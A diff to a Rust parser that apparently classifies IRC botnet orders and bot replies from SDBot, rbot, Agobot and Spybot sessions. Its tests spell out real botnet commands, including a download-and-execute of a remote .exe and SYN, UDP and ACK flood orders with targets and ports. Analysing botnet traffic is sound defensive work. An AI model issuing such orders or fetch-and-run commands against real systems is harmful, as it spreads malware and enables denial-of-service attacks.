@@ -2,8 +2,9 @@
 //! in IRC TOPIC and PRIVMSG texts, and the bots' `[TAG]: ...` replies.
 //!
 //! Pure functions over one text; linking orders to sessions and replies is
-//! done by the caller. Argument layouts follow the Agobot/Phatbot and
-//! rbot/SDBot command sets; `docs/analyze.md` lists them.
+//! done by the caller (`crate::herd`). Command names and argument layouts
+//! follow the published descriptions of the SDBot (0.5b), rbot/rxbot,
+//! Agobot/Phatbot and Spybot command sets; `docs/analyze.md` lists them.
 
 use serde::{Deserialize, Serialize};
 
@@ -29,6 +30,8 @@ pub struct ScanFlags {
 #[derive(Clone, Debug, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
 #[serde(rename_all = "lowercase")]
 pub enum DdosKind {
+    /// rbot `ddos.ack`, `ack`, `ackflood`: TCP ACK flood.
+    Ack,
     /// `ddos.httpflood`: HTTP GET flood.
     HttpFlood,
     /// `ddos.phaticmp`: ICMP flood.
@@ -37,6 +40,8 @@ pub enum DdosKind {
     PhatSyn,
     /// `ddos.phatwolk`: SYN+ACK flood to open ports.
     PhatWolk,
+    /// rbot `ddos.random`: TCP packets with random flags.
+    Random,
     /// `ddos.stop`: end all floods.
     Stop,
     /// `ddos.synflood`: SYN flood.
@@ -52,6 +57,10 @@ pub enum DdosKind {
 impl DdosKind {
     fn from_suffix(s: &str) -> DdosKind {
         match s {
+            "ack" | "ackflood" => DdosKind::Ack,
+            "random" => DdosKind::Random,
+            // rbot's `ddos.syn` is a SYN flood.
+            "syn" => DdosKind::SynFlood,
             "httpflood" => DdosKind::HttpFlood,
             "phaticmp" => DdosKind::PhatIcmp,
             "phatsyn" => DdosKind::PhatSyn,
@@ -67,6 +76,8 @@ impl DdosKind {
     /// The command name (`ddos.synflood`).
     pub fn command(&self) -> String {
         let s = match self {
+            DdosKind::Ack => "ack",
+            DdosKind::Random => "random",
             DdosKind::HttpFlood => "httpflood",
             DdosKind::PhatIcmp => "phaticmp",
             DdosKind::PhatSyn => "phatsyn",
@@ -112,6 +123,9 @@ pub enum OrderKind {
         duration_s: Option<u32>,
         /// Delay between packets, ms.
         delay_ms: Option<u32>,
+        /// Packets to send (SDBot `udp`/`ping`, Spybot `syn` layouts).
+        #[serde(default)]
+        count: Option<u32>,
     },
     /// `download`, `update` and their `http.`/`ftp.`/`bot.` forms.
     Download {
@@ -133,14 +147,62 @@ pub enum OrderKind {
         /// Relay target port.
         target_port: Option<u16>,
     },
+    /// `login` (SDBot, rbot, Spybot `login <password>`; Agobot `login
+    /// <user> <password>`). The password stays in the raw arguments.
+    Login {
+        /// Agobot's user name, when two arguments are given.
+        user: Option<String>,
+    },
+    /// A question about the bot: `status`, `sysinfo`, `netinfo`,
+    /// `version`, `uptime`, `id`... and their `bot.*` forms.
+    Info {
+        /// Canonical topic: `status`, `sysinfo`, `netinfo`, `version`,
+        /// `uptime`, `id`, `nick`, `who`.
+        topic: String,
+    },
+    /// `execute`, `exec`, `bot.execute`, `bot.open`, `open`: run a program
+    /// already on the bot (`execute <visible 0|1> <path> [args]`).
+    Execute {
+        /// Whether the program runs visibly, when the first argument says.
+        visible: Option<bool>,
+        /// Program path or name.
+        file: Option<String>,
+    },
+    /// Session and life-cycle orders: `logout`, `remove`/`uninstall`,
+    /// `quit`/`die`, `reconnect`, `disconnect`, `scan.stop`, `scanstats`...
+    Control {
+        /// Canonical action: `logout`, `remove`, `quit`, `reconnect`,
+        /// `disconnect`, `scan.stop`, `scan.stats`, `scan.config`.
+        action: String,
+    },
     /// Anything else with an order prefix: counted, not dropped.
     Unknown,
+}
+
+impl OrderKind {
+    /// A short name of the order's kind (`scan`, `ddos`, `download`,
+    /// `update`, `redirect`, `login`, `info`, `execute`, `control`,
+    /// `unknown`).
+    pub fn name(&self) -> &'static str {
+        match self {
+            OrderKind::Scan { .. } => "scan",
+            OrderKind::Ddos { .. } => "ddos",
+            OrderKind::Download { update: false, .. } => "download",
+            OrderKind::Download { update: true, .. } => "update",
+            OrderKind::Redirect { .. } => "redirect",
+            OrderKind::Login { .. } => "login",
+            OrderKind::Info { .. } => "info",
+            OrderKind::Execute { .. } => "execute",
+            OrderKind::Control { .. } => "control",
+            OrderKind::Unknown => "unknown",
+        }
+    }
 }
 
 /// One order parsed from a text.
 #[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
 pub struct Order {
-    /// The prefix character (`.`, `!`, `@`), if any.
+    /// The prefix character (`.`, `!`, `@`, `?`...), if any.
     pub prefix: Option<char>,
     /// The command word, lower-cased (`advscan`, `ddos.synflood`).
     pub command: String,
@@ -179,7 +241,130 @@ pub fn strip_formatting(text: &str) -> String {
     out
 }
 
+/// Prefixes that always make a text an order (unknown commands included).
+pub const ORDER_PREFIXES: [char; 3] = ['.', '!', '@'];
+/// Prefixes that make a text an order when the command is a known one
+/// (herders configure the prefix: `?status`, `~sysinfo`, `$login x`).
+pub const WEAK_PREFIXES: [char; 8] = ['?', '~', '$', '%', '&', '*', '^', '`'];
+
+/// Flood commands without the `ddos.` family name (SDBot, rbot/rxbot,
+/// Spybot).
+const PLAIN_FLOODS: [&str; 11] = [
+    "syn",
+    "synflood",
+    "udp",
+    "udpflood",
+    "ping",
+    "pingflood",
+    "icmpflood",
+    "ack",
+    "ackflood",
+    "tcpflood",
+    "httpflood",
+];
+
+/// The command without its family name, for the families whose members
+/// share a meaning (`bot.sysinfo` → `sysinfo`).
+fn strip_family(cmd: &str) -> &str {
+    for fam in ["bot.", "http.", "ftp."] {
+        if let Some(rest) = cmd.strip_prefix(fam) {
+            return rest;
+        }
+    }
+    cmd
+}
+
+/// The canonical info topic of a command (`si` → `sysinfo`), if it asks
+/// the bot about itself.
+fn info_topic(cmd: &str) -> Option<&'static str> {
+    let c = cmd.strip_prefix("bot.").unwrap_or(cmd);
+    Some(match c {
+        "status" | "stat" => "status",
+        "sysinfo" | "si" | "info" => "sysinfo",
+        "netinfo" | "ni" => "netinfo",
+        "version" | "ver" | "about" => "version",
+        "uptime" | "longuptime" => "uptime",
+        "id" => "id",
+        "nick" => "nick",
+        "who" | "whois" => "who",
+        _ => return None,
+    })
+}
+
+/// The canonical control action of a command, if it is one.
+fn control_action(cmd: &str) -> Option<&'static str> {
+    let c = cmd.strip_prefix("bot.").unwrap_or(cmd);
+    Some(match c {
+        "logout" | "lo" => "logout",
+        "remove" | "rm" | "uninstall" | "removeallbut" => "remove",
+        "quit" | "die" | "exit" => "quit",
+        "reconnect" => "reconnect",
+        "disconnect" => "disconnect",
+        _ => match cmd {
+            "scan.stop" | "scanstop" | "scan.stopall" | "advscan.stop" | "scanall.stop" => {
+                "scan.stop"
+            }
+            "scan.stats" | "scanstats" | "advscan.stats" => "scan.stats",
+            _ if cmd.starts_with("scan.")
+                && matches!(
+                    &cmd[5..],
+                    "add"
+                        | "del"
+                        | "enable"
+                        | "disable"
+                        | "clearnetranges"
+                        | "addnetrange"
+                        | "delnetrange"
+                        | "listnetranges"
+                        | "resetnetranges"
+                ) =>
+            {
+                "scan.config"
+            }
+            _ => return None,
+        },
+    })
+}
+
+fn is_scan_command(cmd: &str) -> bool {
+    matches!(
+        cmd,
+        "advscan" | "asc" | "ntscan" | "ipscan" | "scan" | "scanall"
+    ) || (cmd.starts_with("scan.") && control_action(cmd).is_none())
+}
+
+fn is_flood_command(cmd: &str) -> bool {
+    cmd.starts_with("ddos.") || PLAIN_FLOODS.contains(&cmd)
+}
+
 fn is_known_command(cmd: &str) -> bool {
+    let plain = strip_family(cmd);
+    matches!(
+        cmd,
+        "download"
+            | "dl"
+            | "update"
+            | "socks"
+            | "socks4"
+            | "socks5"
+            | "redirect"
+            | "login"
+            | "execute"
+            | "exec"
+            | "open"
+    ) || is_scan_command(cmd)
+        || is_flood_command(cmd)
+        || info_topic(cmd).is_some()
+        || control_action(cmd).is_some()
+        || cmd.starts_with("redirect.")
+        || cmd.starts_with("bot.")
+        || ((cmd.starts_with("http.") || cmd.starts_with("ftp."))
+            && matches!(plain, "download" | "update" | "execute" | "visit"))
+}
+
+/// Known commands that a text without any prefix may start with: only
+/// names no one types in chat (`advscan`, `sysinfo`, `ddos.synflood`).
+fn is_bare_command(cmd: &str) -> bool {
     matches!(
         cmd,
         "advscan"
@@ -192,34 +377,48 @@ fn is_known_command(cmd: &str) -> bool {
             | "socks4"
             | "socks5"
             | "redirect"
+            | "sysinfo"
+            | "netinfo"
     ) || cmd.starts_with("ddos.")
         || cmd.starts_with("redirect.")
         || cmd.starts_with("scan.")
         || cmd.starts_with("http.")
         || cmd.starts_with("ftp.")
-        || cmd == "bot.update"
+        || cmd.starts_with("bot.")
 }
 
-/// Parses one TOPIC or PRIVMSG text. A text with a prefix (`.`, `!`, `@`)
-/// is always an order (unknown ones included); a text without one is an
-/// order only when its first word is a known command.
+/// Parses one TOPIC, PRIVMSG or NOTICE text. A text with a prefix `.`,
+/// `!` or `@` is always an order (unknown ones included); with another
+/// punctuation prefix (`?`, `~`, `$`...) only when the command is known;
+/// without a prefix only when its first word is an unmistakable command
+/// (`advscan`, `ddos.*`, `sysinfo`...).
 pub fn parse_order(text: &str) -> Option<Order> {
     let clean = strip_formatting(text);
     let t = clean.trim();
-    let (prefix, rest) = match t.chars().next()? {
-        c @ ('.' | '!' | '@') => (Some(c), t[1..].trim_start()),
-        _ => (None, t),
+    let first = t.chars().next()?;
+    let (prefix, strong, rest) = if ORDER_PREFIXES.contains(&first) {
+        (Some(first), true, t[first.len_utf8()..].trim_start())
+    } else if WEAK_PREFIXES.contains(&first) {
+        (Some(first), false, t[first.len_utf8()..].trim_start())
+    } else {
+        (None, false, t)
     };
     let mut words = rest.split_whitespace();
     let command = words.next()?.to_ascii_lowercase();
     if command.is_empty()
+        || command.len() > 64
         || !command
             .chars()
             .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-'))
+        || !command.starts_with(|c: char| c.is_ascii_alphabetic())
     {
         return None;
     }
-    if prefix.is_none() && !is_known_command(&command) {
+    let known = match prefix {
+        None => is_bare_command(&command),
+        Some(_) => is_known_command(&command),
+    };
+    if !strong && !known {
         return None;
     }
     let args: Vec<String> = words.take(MAX_ARGS).map(str::to_string).collect();
@@ -237,23 +436,64 @@ fn num<T: std::str::FromStr>(s: Option<&String>) -> Option<T> {
 }
 
 fn interpret(cmd: &str, args: &[String]) -> OrderKind {
-    let scan_cmd =
-        matches!(cmd, "advscan" | "ntscan" | "ipscan" | "scan") || cmd.starts_with("scan.");
-    if scan_cmd {
+    if let Some(action) = control_action(cmd) {
+        return OrderKind::Control {
+            action: action.to_string(),
+        };
+    }
+    if is_scan_command(cmd) {
         return interpret_scan(cmd, args);
     }
     if let Some(f) = cmd.strip_prefix("ddos.") {
-        return interpret_ddos(DdosKind::from_suffix(f), args);
+        return interpret_ddos(f, args);
     }
-    let plain = cmd.rsplit('.').next().unwrap_or(cmd);
+    if PLAIN_FLOODS.contains(&cmd) {
+        return interpret_plain_flood(cmd, args);
+    }
+    if let Some(topic) = info_topic(cmd) {
+        return OrderKind::Info {
+            topic: topic.to_string(),
+        };
+    }
+    let plain = strip_family(cmd);
     let family_ok =
         !cmd.contains('.') || ["http.", "ftp.", "bot."].iter().any(|p| cmd.starts_with(p));
-    if family_ok && matches!(plain, "download" | "update") {
+    if family_ok && matches!(plain, "download" | "update" | "dl") {
         return OrderKind::Download {
             update: plain == "update",
             url: args.first().cloned(),
             file: args.get(1).cloned(),
         };
+    }
+    // `http.execute <url> <file>`: download, then run.
+    if matches!(cmd, "http.execute" | "ftp.execute") {
+        return OrderKind::Download {
+            update: false,
+            url: args.first().cloned(),
+            file: args.get(1).cloned(),
+        };
+    }
+    if matches!(cmd, "login" | "bot.login" | "auth") {
+        return OrderKind::Login {
+            user: if args.len() >= 2 {
+                args.first().cloned()
+            } else {
+                None
+            },
+        };
+    }
+    if matches!(
+        cmd,
+        "execute" | "exec" | "bot.execute" | "bot.open" | "open" | "run"
+    ) {
+        // SDBot/rbot/Agobot: `execute <visible 0|1> <path> [args]`;
+        // `open <path>` has no visibility.
+        let (visible, file) = match args.first().map(String::as_str) {
+            Some("0") => (Some(false), args.get(1).cloned()),
+            Some("1") => (Some(true), args.get(1).cloned()),
+            _ => (None, args.first().cloned()),
+        };
+        return OrderKind::Execute { visible, file };
     }
     if let Some(mode) = cmd.strip_prefix("redirect.") {
         return interpret_redirect(mode, args);
@@ -263,6 +503,61 @@ fn interpret(cmd: &str, args: &[String]) -> OrderKind {
         return interpret_redirect(mode, args);
     }
     OrderKind::Unknown
+}
+
+/// Floods without the `ddos.` family name:
+/// - SDBot `udp|ping <host> <packets> <size> <delay ms> [port]`;
+/// - rbot/rxbot `syn|synflood|ack|ackflood|udpflood|pingflood|icmpflood
+///   <host> <port> <seconds>`, `tcpflood <syn|ack|random> <host> <port>
+///   <seconds>`, `httpflood <url> <seconds>`;
+/// - Spybot `syn <host> <port> <delay ms> <packets>` (four numbers).
+fn interpret_plain_flood(cmd: &str, args: &[String]) -> OrderKind {
+    let a = |i: usize| args.get(i);
+    let kind = |c: &str| match c {
+        "syn" | "synflood" => DdosKind::SynFlood,
+        "udp" | "udpflood" => DdosKind::UdpFlood,
+        "ping" | "pingflood" | "icmpflood" => DdosKind::PhatIcmp,
+        "ack" | "ackflood" => DdosKind::Ack,
+        "random" => DdosKind::Random,
+        "httpflood" => DdosKind::HttpFlood,
+        other => DdosKind::Other(other.to_string()),
+    };
+    let (flood, target, port, duration_s, delay_ms, count) = match cmd {
+        "udp" | "ping" => (
+            kind(cmd),
+            a(0).cloned(),
+            num(a(4)),
+            None,
+            num(a(3)),
+            num(a(1)),
+        ),
+        "tcpflood" => {
+            let sub = a(0).map(|s| s.to_ascii_lowercase()).unwrap_or_default();
+            (kind(&sub), a(1).cloned(), num(a(2)), num(a(3)), None, None)
+        }
+        "httpflood" => {
+            let url = a(0).cloned();
+            let port = url.as_deref().and_then(url_port);
+            (DdosKind::HttpFlood, url, port, num(a(1)), None, None)
+        }
+        "syn" if args.len() >= 4 => (
+            DdosKind::SynFlood,
+            a(0).cloned(),
+            num(a(1)),
+            None,
+            num(a(2)),
+            num(a(3)),
+        ),
+        _ => (kind(cmd), a(0).cloned(), num(a(1)), num(a(2)), None, None),
+    };
+    OrderKind::Ddos {
+        flood,
+        target,
+        port,
+        duration_s,
+        delay_ms,
+        count,
+    }
 }
 
 fn interpret_scan(cmd: &str, args: &[String]) -> OrderKind {
@@ -311,7 +606,8 @@ fn interpret_scan(cmd: &str, args: &[String]) -> OrderKind {
     }
 }
 
-fn interpret_ddos(flood: DdosKind, args: &[String]) -> OrderKind {
+fn interpret_ddos(suffix: &str, args: &[String]) -> OrderKind {
+    let flood = DdosKind::from_suffix(suffix);
     let a = |i: usize| args.get(i);
     // Agobot/Phatbot layouts:
     //   synflood|phatsyn|phatwolk <host> <time s> <delay ms> <port>
@@ -319,20 +615,24 @@ fn interpret_ddos(flood: DdosKind, args: &[String]) -> OrderKind {
     //   udpflood <host> <port> <time s> <delay ms>
     //   targa3 <host> <time s>
     //   httpflood <url> <time s> [referrer] [recursive]
-    let (target, port, duration_s, delay_ms) = match &flood {
-        DdosKind::SynFlood | DdosKind::PhatSyn | DdosKind::PhatWolk => {
+    // rbot/rxbot layouts:
+    //   syn|ack|random <host> <port> <time s>
+    let (target, port, duration_s, delay_ms) = match (suffix, &flood) {
+        ("syn" | "ack" | "random", _) => (a(0).cloned(), num(a(1)), num(a(2)), None),
+        (_, DdosKind::SynFlood | DdosKind::PhatSyn | DdosKind::PhatWolk) => {
             (a(0).cloned(), num(a(3)), num(a(1)), num(a(2)))
         }
-        DdosKind::PhatIcmp => (a(0).cloned(), None, num(a(1)), num(a(2))),
-        DdosKind::UdpFlood => (a(0).cloned(), num(a(1)), num(a(2)), num(a(3))),
-        DdosKind::Targa3 => (a(0).cloned(), None, num(a(1)), None),
-        DdosKind::HttpFlood => {
+        (_, DdosKind::PhatIcmp) => (a(0).cloned(), None, num(a(1)), num(a(2))),
+        (_, DdosKind::UdpFlood) => (a(0).cloned(), num(a(1)), num(a(2)), num(a(3))),
+        (_, DdosKind::Targa3) => (a(0).cloned(), None, num(a(1)), None),
+        (_, DdosKind::HttpFlood) => {
             let url = a(0).cloned();
             let port = url.as_deref().and_then(url_port);
             (url, port, num(a(1)), None)
         }
-        DdosKind::Stop => (None, None, None, None),
-        DdosKind::Other(_) => (a(0).cloned(), None, None, None),
+        (_, DdosKind::Stop) => (None, None, None, None),
+        (_, DdosKind::Ack | DdosKind::Random) => (a(0).cloned(), num(a(1)), num(a(2)), None),
+        (_, DdosKind::Other(_)) => (a(0).cloned(), None, None, None),
     };
     OrderKind::Ddos {
         flood,
@@ -340,6 +640,7 @@ fn interpret_ddos(flood: DdosKind, args: &[String]) -> OrderKind {
         port,
         duration_s,
         delay_ms,
+        count: None,
     }
 }
 
@@ -377,7 +678,9 @@ pub fn url_host(url: &str) -> Option<&str> {
 /// A bot's reply: `[DOWNLOAD]: Downloaded 28.6 KB to x.exe @ 28.6 KB/sec.`
 #[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
 pub struct Reply {
-    /// The module tag, upper-cased (`DOWNLOAD`, `SCAN`, `DDOS`).
+    /// The module tag, upper-cased (`DOWNLOAD`, `SCAN`, `DDOS`); for an
+    /// untagged reply the tag its text implies (`LOGIN`, `SYSINFO`...) or
+    /// empty.
     pub tag: String,
     /// The text after the tag.
     pub text: String,
@@ -387,6 +690,14 @@ pub struct Reply {
     pub file: Option<String>,
     /// Whether the reply reports a failure.
     pub failed: bool,
+    /// Whether the text carried its `[TAG]` (rbot, Agobot); SDBot and
+    /// Spybot replies are plain text.
+    #[serde(default = "yes")]
+    pub tagged: bool,
+}
+
+fn yes() -> bool {
+    true
 }
 
 /// Parses a bot reply; `None` when the text is not of the `[TAG]` form.
@@ -403,11 +714,66 @@ pub fn parse_reply(text: &str) -> Option<Reply> {
         return None;
     }
     let text = rest.trim_start_matches(':').trim().to_string();
-    let words: Vec<&str> = text.split_whitespace().collect();
+    Some(reply_fields(tag.to_ascii_uppercase(), text, true))
+}
+
+/// Parses a text a bot sent back to its herder: the `[TAG]` form, or a
+/// plain SDBot/Spybot line whose tag is implied by its words (`password
+/// accepted` → `LOGIN`, `cpu: ... ram: ...` → `SYSINFO`, `connection
+/// type: ...` → `NETINFO`, `downloading`/`downloaded` → `DOWNLOAD`,
+/// `executed`/`opened` → `EXECUTE`, `ready. Up ...` → `STATUS`). Only the
+/// caller knows the line answers an order (it came from the nick the
+/// order went to); `None` for an empty text or one that is itself an order.
+pub fn parse_relayed_reply(text: &str) -> Option<Reply> {
+    if let Some(r) = parse_reply(text) {
+        return Some(r);
+    }
+    let clean = strip_formatting(text);
+    let t = clean.trim();
+    if t.is_empty() || parse_order(t).is_some() {
+        return None;
+    }
+    let tag = implied_tag(t);
+    Some(reply_fields(tag.to_string(), t.to_string(), false))
+}
+
+/// The tag a plain reply's words imply (empty when none does).
+pub fn implied_tag(text: &str) -> &'static str {
+    let l = text.to_ascii_lowercase();
+    let has = |k: &str| l.contains(k);
+    if has("password accepted") || has("logged in") || has("login successful") {
+        "LOGIN"
+    } else if has("logged out") || has("logout") {
+        "LOGOUT"
+    } else if has("cpu:") || has("ram:") || has(" os:") || l.starts_with("os:") {
+        "SYSINFO"
+    } else if has("connection type") || has("local ip") || has("ip address:") {
+        "NETINFO"
+    } else if has("download") || has("://") {
+        "DOWNLOAD"
+    } else if has("update") {
+        "UPDATE"
+    } else if has("executed") || has("opened") || has("execute") {
+        "EXECUTE"
+    } else if has("ready") || has("uptime") || l.contains(" up ") {
+        "STATUS"
+    } else if has("remov") || has("uninstall") {
+        "REMOVE"
+    } else if has("scan") {
+        "SCAN"
+    } else if has("flood") || has("ddos") {
+        "DDOS"
+    } else {
+        ""
+    }
+}
+
+fn reply_fields(tag: String, text: String, tagged: bool) -> Reply {
+    let words: Vec<&str> = text.split_whitespace().take(MAX_TEXT).collect();
     let url = words
         .iter()
         .find(|w| w.contains("://"))
-        .map(|w| w.trim_end_matches('.').to_string());
+        .map(|w| w.trim_end_matches(['.', ',', ')']).to_string());
     let clean_file = |w: &str| w.trim_end_matches(['.', ',']).to_string();
     let mut file = None;
     for (i, w) in words.iter().enumerate() {
@@ -422,13 +788,14 @@ pub fn parse_reply(text: &str) -> Option<Reply> {
     let failed = ["fail", "error", "couldn't", "could not", "unable"]
         .iter()
         .any(|k| lower.contains(k));
-    Some(Reply {
-        tag: tag.to_ascii_uppercase(),
+    Reply {
+        tag,
         text,
         url,
         file,
         failed,
-    })
+        tagged,
+    }
 }
 
 #[cfg(test)]
@@ -536,6 +903,7 @@ mod tests {
                 port: Some(6667),
                 duration_s: Some(600),
                 delay_ms: Some(0),
+                count: None,
             }
         );
         let o = parse_order(".ddos.udpflood 10.9.9.9 53 120 5").unwrap();
@@ -608,7 +976,15 @@ mod tests {
             }
         ));
         let o = parse_order(".login secret").unwrap();
-        assert_eq!((o.command.as_str(), o.kind), ("login", OrderKind::Unknown));
+        assert_eq!(
+            (o.command.as_str(), o.kind),
+            ("login", OrderKind::Login { user: None })
+        );
+        let o = parse_order(".bot.flushdns").unwrap();
+        assert_eq!(
+            (o.command.as_str(), o.kind),
+            ("bot.flushdns", OrderKind::Unknown)
+        );
         // Colour codes do not hide an order.
         let o = parse_order("\x0304,01.ddos.stop\x03").unwrap();
         assert!(matches!(
@@ -648,5 +1024,247 @@ mod tests {
         );
         assert_eq!(url_port("http://x/y"), Some(80));
         assert_eq!(url_host("http://u:p@h.example:81/z"), Some("h.example"));
+    }
+
+    fn info(t: &str) -> OrderKind {
+        OrderKind::Info { topic: t.into() }
+    }
+    fn control(a: &str) -> OrderKind {
+        OrderKind::Control { action: a.into() }
+    }
+
+    /// The SDBot 0.5b session of issue 15, as the herder typed it.
+    #[test]
+    fn sdbot_herder_commands() {
+        let k = |t: &str| parse_order(t).unwrap().kind;
+        assert_eq!(k(".login l0m3za"), OrderKind::Login { user: None });
+        assert_eq!(k(".status"), info("status"));
+        assert_eq!(k(".sysinfo"), info("sysinfo"));
+        assert_eq!(k(".netinfo"), info("netinfo"));
+        assert_eq!(
+            k(".download http://www.wanees.net/bbnz.exe c:\\bbnz.exe 0"),
+            OrderKind::Download {
+                update: false,
+                url: Some("http://www.wanees.net/bbnz.exe".into()),
+                file: Some("c:\\bbnz.exe".into())
+            }
+        );
+        assert_eq!(
+            k(".execute 1 c:\\bbnz.exe"),
+            OrderKind::Execute {
+                visible: Some(true),
+                file: Some("c:\\bbnz.exe".into())
+            }
+        );
+        assert_eq!(
+            k(".execute notepad.exe"),
+            OrderKind::Execute {
+                visible: None,
+                file: Some("notepad.exe".into())
+            }
+        );
+        assert_eq!(k(".remove"), control("remove"));
+        assert_eq!(k(".logout"), control("logout"));
+        assert_eq!(k(".quit"), control("quit"));
+        // SDBot floods: udp|ping <host> <packets> <size> <delay> [port].
+        assert_eq!(
+            k(".udp 10.9.9.9 1000 4096 10 53"),
+            OrderKind::Ddos {
+                flood: DdosKind::UdpFlood,
+                target: Some("10.9.9.9".into()),
+                port: Some(53),
+                duration_s: None,
+                delay_ms: Some(10),
+                count: Some(1000),
+            }
+        );
+        let OrderKind::Ddos { flood, count, .. } = k(".ping 10.9.9.9 100 65500 0") else {
+            panic!()
+        };
+        assert_eq!((flood, count), (DdosKind::PhatIcmp, Some(100)));
+    }
+
+    #[test]
+    fn rbot_and_rxbot_commands() {
+        let k = |t: &str| parse_order(t).unwrap().kind;
+        assert_eq!(k(".si"), info("sysinfo"));
+        assert_eq!(k(".ni"), info("netinfo"));
+        assert_eq!(k(".lo"), control("logout"));
+        assert_eq!(k(".rm"), control("remove"));
+        assert_eq!(k(".scanstop"), control("scan.stop"));
+        assert_eq!(k(".scanstats"), control("scan.stats"));
+        assert!(matches!(
+            k(".dl http://h.example/a.exe a.exe 1"),
+            OrderKind::Download { update: false, .. }
+        ));
+        let OrderKind::Scan {
+            scanner,
+            threads,
+            delay_s,
+            flags,
+            ..
+        } = k(".asc lsass 200 5 0 -b -r")
+        else {
+            panic!()
+        };
+        assert_eq!(
+            (scanner.as_deref(), threads, delay_s),
+            (Some("lsass"), Some(200), Some(5))
+        );
+        assert!(flags.b && flags.r && !flags.s);
+        // rbot ddos.syn|ack|random <host> <port> <seconds>.
+        assert_eq!(
+            k(".ddos.syn 10.1.2.3 6667 300"),
+            OrderKind::Ddos {
+                flood: DdosKind::SynFlood,
+                target: Some("10.1.2.3".into()),
+                port: Some(6667),
+                duration_s: Some(300),
+                delay_ms: None,
+                count: None,
+            }
+        );
+        let OrderKind::Ddos { flood, port, .. } = k(".ddos.ack 10.1.2.3 80 60") else {
+            panic!()
+        };
+        assert_eq!((flood, port), (DdosKind::Ack, Some(80)));
+        let OrderKind::Ddos { flood, .. } = k(".ddos.random 10.1.2.3 80 60") else {
+            panic!()
+        };
+        assert_eq!(flood, DdosKind::Random);
+        let OrderKind::Ddos {
+            flood,
+            target,
+            port,
+            duration_s,
+            ..
+        } = k(".tcpflood ack 10.1.2.3 25 120")
+        else {
+            panic!()
+        };
+        assert_eq!(
+            (flood, target.as_deref(), port, duration_s),
+            (DdosKind::Ack, Some("10.1.2.3"), Some(25), Some(120))
+        );
+    }
+
+    #[test]
+    fn agobot_phatbot_dotted_commands() {
+        let k = |t: &str| parse_order(t).unwrap().kind;
+        assert_eq!(
+            k(".login herder s3cret"),
+            OrderKind::Login {
+                user: Some("herder".into())
+            }
+        );
+        assert_eq!(k(".bot.sysinfo"), info("sysinfo"));
+        assert_eq!(k(".bot.status"), info("status"));
+        assert_eq!(k(".bot.about"), info("version"));
+        assert_eq!(k(".bot.id"), info("id"));
+        assert_eq!(k(".bot.remove"), control("remove"));
+        assert_eq!(k(".bot.quit"), control("quit"));
+        assert_eq!(
+            k(".bot.execute 0 cmd.exe"),
+            OrderKind::Execute {
+                visible: Some(false),
+                file: Some("cmd.exe".into())
+            }
+        );
+        assert_eq!(
+            k(".http.execute http://h.example/x.exe c:\\x.exe"),
+            OrderKind::Download {
+                update: false,
+                url: Some("http://h.example/x.exe".into()),
+                file: Some("c:\\x.exe".into())
+            }
+        );
+        assert!(matches!(
+            k(".bot.update http://h.example/x.exe 7"),
+            OrderKind::Download { update: true, .. }
+        ));
+        assert!(matches!(k(".scan.startall"), OrderKind::Scan { .. }));
+        assert_eq!(k(".scan.stop"), control("scan.stop"));
+        assert_eq!(k(".scan.enable dcom"), control("scan.config"));
+        let OrderKind::Ddos {
+            flood,
+            port,
+            duration_s,
+            delay_ms,
+            ..
+        } = k(".ddos.phatsyn 10.4.4.4 600 0 6667")
+        else {
+            panic!()
+        };
+        assert_eq!(
+            (flood, port, duration_s, delay_ms),
+            (DdosKind::PhatSyn, Some(6667), Some(600), Some(0))
+        );
+    }
+
+    #[test]
+    fn spybot_and_other_prefixes() {
+        // Spybot: syn <host> <port> <delay> <packets>.
+        let o = parse_order("!syn 10.2.2.2 80 10 1000").unwrap();
+        assert_eq!(o.prefix, Some('!'));
+        assert_eq!(
+            o.kind,
+            OrderKind::Ddos {
+                flood: DdosKind::SynFlood,
+                target: Some("10.2.2.2".into()),
+                port: Some(80),
+                duration_s: None,
+                delay_ms: Some(10),
+                count: Some(1000),
+            }
+        );
+        let o = parse_order("?status").unwrap();
+        assert_eq!((o.prefix, o.kind), (Some('?'), info("status")));
+        let o = parse_order("~sysinfo").unwrap();
+        assert_eq!((o.prefix, o.kind), (Some('~'), info("sysinfo")));
+        let o = parse_order("$login pass").unwrap();
+        assert_eq!(o.kind, OrderKind::Login { user: None });
+        // A weak prefix needs a known command; chat needs no prefix at all.
+        assert_eq!(parse_order("?hello"), None);
+        assert_eq!(parse_order("~~~ welcome ~~~"), None);
+        assert_eq!(parse_order("status report tomorrow"), None);
+        assert_eq!(parse_order("syn 10.2.2.2 80 10 1000"), None);
+        assert_eq!(parse_order("sysinfo").unwrap().kind, info("sysinfo"));
+        assert_eq!(parse_order(".123"), None);
+    }
+
+    /// Reply formats of SDBot as published by FortiGuard (W32/SDBot.fam:
+    /// "cpu: %d MHz. ram: %d KB total, %d KB free. os: Windows %s (%d.%d,
+    /// build %d). uptime: %dd %dh %dm", "connection type: %s (%s). local
+    /// IP address: %d.%d.%d.%d. connected from: %s").
+    #[test]
+    fn untagged_sdbot_replies_imply_their_kind() {
+        let r = parse_relayed_reply(
+            "cpu: 1694 MHz. ram: 523760 KB total, 301228 KB free. os: Windows XP (5.1, build 2600). uptime: 0d 2h 14m",
+        )
+        .unwrap();
+        assert_eq!((r.tag.as_str(), r.tagged), ("SYSINFO", false));
+        let r = parse_relayed_reply(
+            "connection type: dial-up (MSN). local IP address: 172.16.1.10. connected from: h-68-164-92-148.snvacaid.dynamic.covad.net",
+        )
+        .unwrap();
+        assert_eq!(r.tag, "NETINFO");
+        assert_eq!(
+            parse_relayed_reply("password accepted.").unwrap().tag,
+            "LOGIN"
+        );
+        let r = parse_relayed_reply("downloading http://www.wanees.net/bbnz.exe...").unwrap();
+        assert_eq!(
+            (r.tag.as_str(), r.url.as_deref()),
+            ("DOWNLOAD", Some("http://www.wanees.net/bbnz.exe"))
+        );
+        // Tagged replies keep their tag; an order is not a reply.
+        assert_eq!(
+            parse_relayed_reply("[MAIN]: Password accepted.")
+                .unwrap()
+                .tag,
+            "MAIN"
+        );
+        assert_eq!(parse_relayed_reply(".sysinfo"), None);
+        assert_eq!(parse_relayed_reply("  "), None);
     }
 }
